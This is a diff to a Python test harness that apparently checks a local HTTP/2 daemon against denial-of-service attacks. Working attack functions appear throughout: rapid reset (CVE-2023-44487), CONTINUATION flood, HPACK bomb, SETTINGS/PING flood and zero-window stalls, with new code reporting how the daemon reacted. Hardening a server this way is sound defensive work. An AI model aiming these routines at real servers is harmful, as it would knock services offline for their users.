@@ -23,6 +23,8 @@ import urllib.request
 
 import h2.config
 import h2.connection
+import h2.events
+import h2.exceptions
 import h2.settings
 import hpack
 from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame
@@ -95,10 +97,12 @@ class Legitimate(threading.Thread):
         self.running = True
 
     def run(self):
+        # From an address of its own (the attackers use 127.0.0.1): one address may hold at
+        # most half of the daemon's tile data.
         while self.running:
             out = subprocess.run(
-                ["curl", "-sk", "-f", "--max-time", "10", "-X", "POST", "-H", f"Authorization: Bearer {SECRET}",
-                 "-o", "/dev/null", self.url], capture_output=True)
+                ["curl", "-sSk", "-f", "--interface", "127.0.0.2", "--max-time", "10", "-X", "POST", "-H",
+                 f"Authorization: Bearer {SECRET}", "-o", "/dev/null", self.url], capture_output=True)
             if out.returncode == 0:
                 self.served += 1
             else:
@@ -133,6 +137,35 @@ def headers(path, method="GET", secret=None):
     return h
 
 
+def outcome(sock, conn=None, sent=None):
+    """What the daemon did with an abusive connection: read for up to 2 s, and say whether it sent
+    GOAWAY (and why), closed it, or kept it open."""
+    sock.settimeout(2)
+    said = "kept it open"
+    try:
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                said = "closed it"
+                break
+            if conn is not None:
+                try:
+                    events = conn.receive_data(data)
+                except h2.exceptions.ProtocolError:
+                    events = []
+                ended = [e for e in events if isinstance(e, h2.events.ConnectionTerminated)]
+                if ended:
+                    code = getattr(ended[0].error_code, "name", ended[0].error_code)
+                    said = f"GOAWAY {code}"
+                    break
+    except (socket.timeout, ssl.SSLError):
+        pass
+    except OSError:
+        said = "closed it"
+    sock.close()
+    return f"{sent}; the daemon {said}" if sent else f"the daemon {said}"
+
+
 def send_all(sock, data):
     try:
         sock.sendall(data)
@@ -144,14 +177,17 @@ def send_all(sock, data):
 def rapid_reset(port, streams, secret):
     """Opens streams and resets each at once (CVE-2023-44487)."""
     sock, conn = h2_client(port)
+    sent = 0
     for i in range(streams):
         sid = conn.get_next_available_stream_id()
         conn.send_headers(sid, headers("/v1/capacity", secret=secret), end_stream=True)
         conn.reset_stream(sid)
-        if i % 100 == 99 and not send_all(sock, conn.data_to_send()):
-            break
+        if i % 100 == 99:
+            if not send_all(sock, conn.data_to_send()):
+                break
+            sent = i + 1
     send_all(sock, conn.data_to_send())
-    sock.close()
+    return outcome(sock, conn, f"{sent} streams sent")
 
 
 def continuation_flood(port, frames):
@@ -161,10 +197,12 @@ def continuation_flood(port, frames):
     block = hpack.Encoder().encode(headers("/v1/capacity"))
     send_all(sock, HeadersFrame(1, data=block).serialize())
     junk = hpack.Encoder().encode([("x-junk", "j" * 8000)])
+    sent = 0
     for i in range(frames):
         if not send_all(sock, ContinuationFrame(1, data=junk).serialize()):
             break
-    sock.close()
+        sent = i + 1
+    return outcome(sock, None, f"{sent} frames sent")
 
 
 def hpack_bomb(port, references, secret):
@@ -177,8 +215,7 @@ def hpack_bomb(port, references, secret):
     send_all(sock, HeadersFrame(1, data=first, flags=["END_HEADERS", "END_STREAM"]).serialize())
     block = encoder.encode(headers("/v1/capacity", secret=secret)) + index * references
     send_all(sock, HeadersFrame(3, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
-    time.sleep(0.5)
-    sock.close()
+    return outcome(sock, conn, f"a block of {len(block)} bytes decoding to {references * 4000 // 1000000} MB")
 
 
 def control_flood(port, frames):
@@ -186,10 +223,12 @@ def control_flood(port, frames):
     sock, conn = h2_client(port)
     batch = b"".join(SettingsFrame(0, settings={0x3: 100}).serialize() + PingFrame(0, opaque_data=b"01234567").serialize()
                      for _ in range(100))
-    for _ in range(frames // 100):
+    sent = 0
+    for _ in range(frames // 200):
         if not send_all(sock, batch):
             break
-    sock.close()
+        sent += 200
+    return outcome(sock, conn, f"{sent} frames sent")
 
 
 def zero_window(port, connections, path, secret):
@@ -200,8 +239,24 @@ def zero_window(port, connections, path, secret):
         sid = conn.get_next_available_stream_id()
         conn.send_headers(sid, headers(path, method="POST", secret=secret), end_stream=True)
         send_all(sock, conn.data_to_send())
-        held.append(sock)
-    return held
+        held.append((sock, conn))
+    time.sleep(5)
+    statuses = {}
+    for sock, conn in held:
+        sock.settimeout(0.2)
+        status = "no answer yet"
+        try:
+            while status == "no answer yet":
+                data = sock.recv(65536)
+                if not data:
+                    break
+                for event in conn.receive_data(data):
+                    if isinstance(event, h2.events.ResponseReceived):
+                        status = dict(event.headers).get(":status", status)
+        except (OSError, h2.exceptions.ProtocolError):
+            pass
+        statuses[status] = statuses.get(status, 0) + 1
+    return [sock for sock, _ in held], ", ".join(f"{n} answered {k}" for k, n in sorted(statuses.items()))
 
 
 def h2load(daemon, requests, clients, secret):
@@ -261,8 +316,13 @@ def main():
     attack(f"SETTINGS and PING flood: {10000 * scale} frames", lambda: control_flood(daemon.port, 10000 * scale))
     zero = []
     big = f"/v1/blocks/{escape}/tile?count={1 << 22}&params=2048,2048,2"
-    attack(f"zero window, with the secret: {4 * scale} answers of 16 MiB never let through",
-           lambda: zero.extend(zero_window(daemon.port, 4 * scale, big, SECRET)))
+
+    def zero_windows():
+        socks, said = zero_window(daemon.port, 4 * scale, big, SECRET)
+        zero.extend(socks)
+        return said
+
+    attack(f"zero window, with the secret: {4 * scale} answers of 16 MiB never let through", zero_windows)
     idle = []
     tls_idle = 50 if args.smoke else 300
     attack(f"openssl s_client, no secret: {tls_idle} idle TLS connections",
